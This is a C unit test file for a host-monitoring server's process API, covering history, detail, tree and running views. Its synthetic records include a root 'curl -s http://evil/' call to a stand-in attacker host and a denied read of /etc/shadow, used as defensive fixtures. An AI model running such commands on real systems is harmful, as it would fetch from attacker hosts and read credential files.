// SPDX-License-Identifier: Apache-2.0
//
// Processes from the records of a host: what was executed, one of them, its tree, what runs.
#include "tests/unit/unit.h"

#include "base/jsonget.h"
#include "tests/unit/server/say.h"

#define BOOT           "0b9ce7d2-3a64-4e52-9f5c-1d2a3b4c5d6e"
#define OTHER          "ffffffff-3a64-4e52-9f5c-1d2a3b4c5d6e"
#define UID(boot, pid) boot ":" #pid ":1"

// A process as records have it.
#define PROCESS(boot, pid, path, cmd, user, parent, ancestry)                                   \
    "{\"pid\":" #pid                                                                            \
    ",\"uid\":\"" UID(boot, pid) "\",\"file\":{\"path\":\"" path "\"},\"cmd_line\":\"" cmd      \
                                 "\",\"user\":{\"name\":\"" user "\"},\"created_time\":1000,"   \
                                 "\"parent_process\":{\"pid\":" #parent                         \
                                 ",\"uid\":\"" UID(boot,                                        \
                                                   parent) "\",\"path\":\"/bin/p" #parent       \
                                                           "\"},\"ancestry\":[{\"uid\":\"" UID( \
                                                               boot, parent) "\"}" ancestry "]}"
#define ABOVE(boot, pid) \
    ",{\"pid\":" #pid ",\"uid\":\"" UID(boot, pid) "\",\"path\":\"/bin/p" #pid "\"}"

#define BASH PROCESS(BOOT, 4000, "/bin/bash", "-bash", "ann", 900, ABOVE(BOOT, 1))
#define CHILD \
    PROCESS(BOOT, 4242, "/bin/bash", "-bash", "ann", 4000, ABOVE(BOOT, 900) ABOVE(BOOT, 1))
#define PYTHON                                                                \
    PROCESS(BOOT, 4242, "/usr/bin/python3", "python3 /srv/x.py", "ann", 4000, \
            ABOVE(BOOT, 900) ABOVE(BOOT, 1))
#define REFUSED \
    PROCESS(BOOT, 4242, "/tmp/x", "/tmp/x --go", "ann", 4000, ABOVE(BOOT, 900) ABOVE(BOOT, 1))
#define LS PROCESS(BOOT, 4250, "/bin/ls", "ls -l", "ann", 4000, ABOVE(BOOT, 900) ABOVE(BOOT, 1))
#define YOUNG \
    PROCESS(BOOT, 4300, "/usr/bin/python3", "python3 /srv/x.py", "ann", 4242, ABOVE(BOOT, 4000))
#define CURL \
    PROCESS(BOOT, 4300, "/usr/bin/curl", "curl -s http://evil/", "root", 4242, ABOVE(BOOT, 4000))
#define OLD PROCESS(OTHER, 77, "/usr/bin/vi", "vi notes", "bob", 76, "")

#define ODD(pid, parent, above) \
    PROCESS(BOOT, pid, "/bin/o" #pid, "odd", "x", parent, ABOVE(BOOT, above) ABOVE(BOOT, parent))

#define WHO "\"user\":{\"name\":\"ann\"},\"session\":{\"uid\":\"3\"},"
#define FORK(actor, child)                                                      \
    "\"class_uid\":1007,\"activity_id\":1,\"launch_type_id\":2,\"actor\":{" WHO \
    "\"process\":" actor "},\"process\":" child
#define EXEC(actor, now, more)                                                          \
    "\"class_uid\":1007,\"activity_id\":1,\"launch_type_id\":3," more "\"actor\":{" WHO \
    "\"process\":" actor "},\"process\":" now
#define EXIT(actor, code)                                                          \
    "\"class_uid\":1007,\"activity_id\":2,\"exit_code\":" #code ",\"actor\":{" WHO \
    "\"process\":" actor "},\"process\":" actor
#define DENY "\"action_id\":2,\"disposition_id\":2,\"severity_id\":3,"

static const char *const lines[] = {
    EXEC(OLD, OLD, ""),
    FORK(BASH, CHILD),
    EXEC(CHILD, PYTHON, "\"unmapped\":{\"script\":\"/srv/x.py\",\"capabilities\":[\"all\"]},"),
    FORK(BASH, LS),
    EXEC(LS, LS, ""),
    EXIT(LS, 0),
    FORK(PYTHON, YOUNG),
    EXEC(YOUNG, CURL, ""),
    DENY "\"class_uid\":1001,\"activity_id\":14,\"count\":4,\"actor\":{" WHO "\"process\":" CURL
         "},\"file\":{\"path\":\"/etc/shadow\"},\"unmapped\":{\"rule\":\"shadow\"}",
    EXIT(CURL, 22),
    EXEC(PYTHON, REFUSED, DENY "\"unmapped\":{\"rule\":\"no-tmp\"},"),
    // Records may say anything: two that are each other's parents, and a child of theirs.
    EXEC(ODD(51, 52, 51), ODD(51, 52, 51), ""),
    EXEC(ODD(52, 51, 52), ODD(52, 51, 52), ""),
    EXEC(ODD(54, 52, 51), ODD(54, 52, 51), ""),
};

struct world {
    struct rig *rig;
    struct agent host;
    struct peer viewer;
    struct stream_id stream;
    char base[128];
};

static void world_begin(struct world *w)
{
    *w = (struct world){.rig = rig_new()};
    assert_int_equal(stream_id_new(&w->stream), 0);
    agent_new(&w->host, w->rig);
    assert_int_equal(agent_hello(&w->host, &w->stream), 200);
    for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
        char line[8192];

        assert_true(snprintf(line, sizeof(line), "{\"time\":%llu,%s}",
                             (unsigned long long)server_now() - 60000 + i * 1000,
                             lines[i]) < (int)sizeof(line));
        assert_int_equal(agent_send(&w->host, &w->stream, i + 1, 1, line), 200);
    }
    say_as(w->rig, &w->viewer, "vera", ROLE_VIEWER);
    (void)snprintf(w->base, sizeof(w->base), "/api/v1/hosts/%s/processes", w->host.id);
}

static void world_end(struct world *w)
{
    peer_done(&w->viewer);
    agent_done(&w->host);
    rig_free(w->rig);
}

static void get(struct world *w, const char *route, const char *rest, long status)
{
    char target[512];

    (void)snprintf(target, sizeof(target), "%s%s", w->base, rest);
    say(&w->viewer, route, target, NULL, status);
}

// The programs of a page, in their order: "/bin/b /bin/a".
static void expect_programs(struct world *w, const char *query, const char *expected)
{
    _cleanup_(sb_done) struct strbuf sb = {};
    char *program, path[64];

    get(w, "host_processes", query, 200);
    for (unsigned i = 0;; i++) {
        (void)snprintf(path, sizeof(path), "items.%u.program", i);
        program = said(&w->viewer, path);
        if (!program)
            break;
        sb_printf(&sb, "%s%s", i ? " " : "", program);
        free(program);
    }
    assert_string_equal(sb_str(&sb), expected);
}

static void test_history(void **state _unused_)
{
    struct world w;
    char *next, query[512];

    world_begin(&w);
    expect_programs(
        &w, "",
        "/bin/o54 /bin/o52 /bin/o51 /tmp/x /usr/bin/curl /bin/ls /usr/bin/python3 /usr/bin/vi");
    expect_said(&w.viewer, "items.4.cmd_line", "curl -s http://evil/");
    expect_said(&w.viewer, "items.4.state", "ended");
    expect_said(&w.viewer, "items.4.exit_code", "22");
    expect_said(&w.viewer, "items.4.user", "root");
    expect_said(&w.viewer, "items.4.login_user", "ann");
    expect_said(&w.viewer, "items.4.session", "3");
    expect_said(&w.viewer, "items.4.parent.uid", UID(BOOT, 4242));
    expect_said(&w.viewer, "items.3.state", "refused");
    expect_said(&w.viewer, "items.3.rule", "no-tmp");
    expect_said(&w.viewer, "items.3.outcome", "denied");
    expect_said(&w.viewer, "items.6.state", "running");
    expect_said(&w.viewer, "items.6.script", "/srv/x.py");
    expect_said(&w.viewer, "items.7.state", "gone");
    expect_programs(&w, "?program=/usr/bin/*", "/usr/bin/curl /usr/bin/python3 /usr/bin/vi");
    expect_programs(&w, "?user=root", "/usr/bin/curl");
    expect_programs(&w, "?user=bob&login_user=ann", "/usr/bin/vi");
    expect_programs(&w, "?session=3&q=evil", "/usr/bin/curl");
    expect_programs(&w, "?session=4", "");
    expect_programs(&w, "?container=c1", "");
    expect_programs(&w, "?denied=true", "/tmp/x");
    expect_programs(&w, "?q=http", "/usr/bin/curl");
    expect_programs(&w, "?q=%22tmp/x%22", "/tmp/x");
    expect_programs(&w, "?q=shadow", "");
    expect_programs(&w, "?parent=" UID(BOOT, 4242), "/usr/bin/curl");
    expect_programs(&w, "?process=" UID(BOOT, 4242), "/tmp/x /usr/bin/python3");
    expect_programs(&w, "?to=-1h", "");
    // Page by page.
    expect_programs(&w, "?limit=6", "/bin/o54 /bin/o52 /bin/o51 /tmp/x /usr/bin/curl /bin/ls");
    next = said(&w.viewer, "next");
    (void)snprintf(query, sizeof(query), "?limit=6&cursor=%s", next);
    free(next);
    expect_programs(&w, query, "/usr/bin/python3 /usr/bin/vi");
    assert_null(said(&w.viewer, "next"));
    get(&w, "host_processes", "?cursor=x", 400);
    get(&w, "host_processes", "?limit=201", 400);
    get(&w, "host_processes", "?q=%22no+end", 400);
    say(&w.viewer, "host_processes", "/api/v1/hosts/00000000-0000-4000-8000-000000000000/processes",
        NULL, 404);
    world_end(&w);
}

static void test_detail(void **state _unused_)
{
    struct world w;

    world_begin(&w);
    get(&w, "host_process", "/" UID(BOOT, 4300), 200);
    expect_said(&w.viewer, "program", "/usr/bin/curl");
    expect_said(&w.viewer, "name", "curl");
    expect_said(&w.viewer, "pid", "4300");
    expect_said(&w.viewer, "user", "root");
    expect_said(&w.viewer, "login_user", "ann");
    expect_said(&w.viewer, "state", "ended");
    expect_said(&w.viewer, "exit_code", "22");
    expect_said(&w.viewer, "parent", UID(BOOT, 4242));
    expect_said(&w.viewer, "counts.denied", "4");
    expect_said(&w.viewer, "process.cmd_line", "curl -s http://evil/");
    expect_said(&w.viewer, "truncated", "false");
    // What it was not allowed to become, it is not.
    get(&w, "host_process", "/" UID(BOOT, 4242), 200);
    expect_said(&w.viewer, "program", "/usr/bin/python3");
    expect_said(&w.viewer, "state", "running");
    expect_said(&w.viewer, "unmapped.script", "/srv/x.py");
    expect_said(&w.viewer, "counts.denied", "1");
    assert_null(said(&w.viewer, "ended"));
    // An ancestor that only others tell of has no record of its own; one that forked has.
    get(&w, "host_process", "/" UID(BOOT, 900), 404);
    get(&w, "host_process", "/" UID(BOOT, 4000), 200);
    expect_said(&w.viewer, "state", "unknown");
    expect_said(&w.viewer, "program", "/bin/bash");
    assert_null(said(&w.viewer, "unmapped"));
    get(&w, "host_process", "/" UID(OTHER, 77), 200);
    expect_said(&w.viewer, "state", "gone");
    get(&w, "host_process", "/nobody", 404);
    get(&w, "host_process", "/%00", 400);
    world_end(&w);
}

// "uid" of a node → its role, parent and so on, as "role parent state denials"; NULL: it is not among them.
static char *node_text(const struct peer *p, const char *uid)
{
    struct json_object *root = json_tokener_parse(sb_str(&p->answer.body)),
                       *nodes = json_get(root, "nodes");
    char *text = NULL;

    for (size_t i = 0; i < json_object_array_length(nodes); i++) {
        struct json_object *n = json_object_array_get_idx(nodes, i);

        if (streq(json_get_str(n, "uid", ""), uid))
            assert_true(asprintf(&text, "%s %s %s %llu", json_get_str(n, "role", "-"),
                                 json_get_str(n, "parent", "-"), json_get_str(n, "state", "-"),
                                 (unsigned long long)json_get_u64(n, "denials", 99)) > 0);
    }
    json_object_put(root);
    return text;
}

static void expect_node(struct world *w, const char *uid, const char *expected)
{
    char *text = node_text(&w->viewer, uid);

    if (!expected)
        assert_null(text);
    else
        assert_string_equal(text ? text : "none", expected);
    free(text);
}

static void test_tree(void **state _unused_)
{
    struct world w;

    world_begin(&w);
    get(&w, "host_process_tree", "/" UID(BOOT, 4242) "/tree", 200);
    expect_said(&w.viewer, "truncated", "false");
    expect_node(&w, UID(BOOT, 1), "ancestor - unknown 0");
    expect_node(&w, UID(BOOT, 900), "ancestor " UID(BOOT, 1) " unknown 0");
    expect_node(&w, UID(BOOT, 4000), "ancestor " UID(BOOT, 900) " unknown 0");
    expect_node(&w, UID(BOOT, 4242), "self " UID(BOOT, 4000) " running 1");
    expect_node(&w, UID(BOOT, 4250), "sibling " UID(BOOT, 4000) " ended 0");
    expect_node(&w, UID(BOOT, 4300), "descendant " UID(BOOT, 4242) " ended 4");
    expect_node(&w, UID(OTHER, 77), NULL);
    get(&w, "host_process_tree", "/" UID(BOOT, 4000) "/tree", 200);
    expect_node(&w, UID(BOOT, 4300), "descendant " UID(BOOT, 4242) " ended 4");
    // Each other's parents: it comes to an end.
    get(&w, "host_process_tree", "/" UID(BOOT, 51) "/tree", 200);
    expect_node(&w, UID(BOOT, 52), "ancestor " UID(BOOT, 51) " running 0");
    get(&w, "host_process_tree", "/" UID(BOOT, 54) "/tree", 200);
    expect_node(&w, UID(BOOT, 54), "self " UID(BOOT, 52) " running 0");
    expect_node(&w, UID(BOOT, 51), "ancestor " UID(BOOT, 52) " running 0");
    get(&w, "host_process_tree", "/none/tree", 404);
    world_end(&w);
}

static void test_running(void **state _unused_)
{
    struct world w;

    world_begin(&w);
    get(&w, "host_running", "/running", 200);
    expect_node(&w, UID(BOOT, 4242), "running " UID(BOOT, 4000) " running 1");
    expect_node(&w, UID(BOOT, 4000), "ancestor " UID(BOOT, 900) " unknown 0");
    expect_node(&w, UID(BOOT, 4250), NULL);
    expect_node(&w, UID(BOOT, 4300), NULL);
    expect_node(&w, UID(OTHER, 77), NULL);
    world_end(&w);
}

// What another host says of the same entities is its own.
static void test_other_host(void **state _unused_)
{
    char token[TOKEN_TEXT_MAX], line[8192];
    struct stream_id stream;
    struct agent other;
    struct world w;

    world_begin(&w);
    agent_init(&other, w.rig);
    other.machine_id = "99992222333344445555666677778888";
    other.boot_id = OTHER;
    token_text(w.rig, 1, token);
    assert_int_equal(agent_enrol_with(&other, token), 200);
    assert_int_equal(stream_id_new(&stream), 0);
    assert_int_equal(agent_hello(&other, &stream), 200);
    (void)snprintf(line, sizeof(line), "{\"time\":%llu,%s}", (unsigned long long)server_now(),
                   EXEC(PROCESS(BOOT, 4242, "/bin/foreign", "foreign", "x", 9, ""),
                        PROCESS(BOOT, 4242, "/bin/foreign", "foreign", "x", 9, ""), ""));
    assert_int_equal(agent_send(&other, &stream, 1, 1, line), 200);
    expect_programs(&w, "?q=foreign", "");
    get(&w, "host_process", "/" UID(BOOT, 4242), 200);
    expect_said(&w.viewer, "program", "/usr/bin/python3");
    expect_said(&w.viewer, "counts.other", "3");
    get(&w, "host_process_tree", "/" UID(BOOT, 4242) "/tree", 200);
    expect_node(&w, UID(BOOT, 4242), "self " UID(BOOT, 4000) " running 1");
    (void)snprintf(w.base, sizeof(w.base), "/api/v1/hosts/%s/processes", other.id);
    expect_programs(&w, "", "/bin/foreign");
    get(&w, "host_process", "/" UID(BOOT, 4300), 404);
    agent_done(&other);
    world_end(&w);
}

static void test_events_of(void **state _unused_)
{
    struct world w;
    char target[256];

    world_begin(&w);
    say(&w.viewer, "events", "/api/v1/events?process=" UID(BOOT, 4300) "&outcome=denied", NULL,
        200);
    expect_said(&w.viewer, "items.0.path", "/etc/shadow");
    assert_null(said(&w.viewer, "items.1"));
    (void)snprintf(target, sizeof(target), "/api/v1/events?process=%s,%s&class=1007&order=oldest",
                   UID(BOOT, 4300), UID(OTHER, 77));
    say(&w.viewer, "events", target, NULL, 200);
    expect_said(&w.viewer, "items.0.path", "/usr/bin/vi");
    expect_said(&w.viewer, "items.3.path", "/usr/bin/curl");
    say(&w.viewer, "events_timeline", "/api/v1/events/timeline?buckets=1&process=" UID(BOOT, 4300),
        NULL, 200);
    expect_said(&w.viewer, "points.0.denied", "4");
    world_end(&w);
}

UNIT_MAIN(cmocka_unit_test(test_history), cmocka_unit_test(test_detail),
          cmocka_unit_test(test_tree), cmocka_unit_test(test_running),
          cmocka_unit_test(test_events_of), cmocka_unit_test(test_other_host))
